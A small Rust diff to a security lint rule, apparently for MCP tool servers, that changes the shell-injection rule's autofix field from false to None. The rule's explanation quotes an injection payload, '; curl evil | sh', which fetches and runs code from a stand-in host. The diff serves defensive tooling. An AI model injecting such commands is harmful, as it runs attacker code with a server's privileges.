@@ -11,7 +11,7 @@ pub static SHELL_INJECTION: RuleMeta = RuleMeta {
     family: Family::Security,
     severity: Severity::Error,
     status: Status::Stable,
-    autofix: false,
+    autofix: None,
     limits: "",
     summary: "A shell started as a program (`sh`, `bash`, `cmd`, `powershell`, …), or a program whose name is not a literal.",
     why: "Passing model-supplied text through a shell turns every tool argument into a command line: `; curl evil | sh` runs with the server's privileges (OWASP MCP top 10: command injection).",
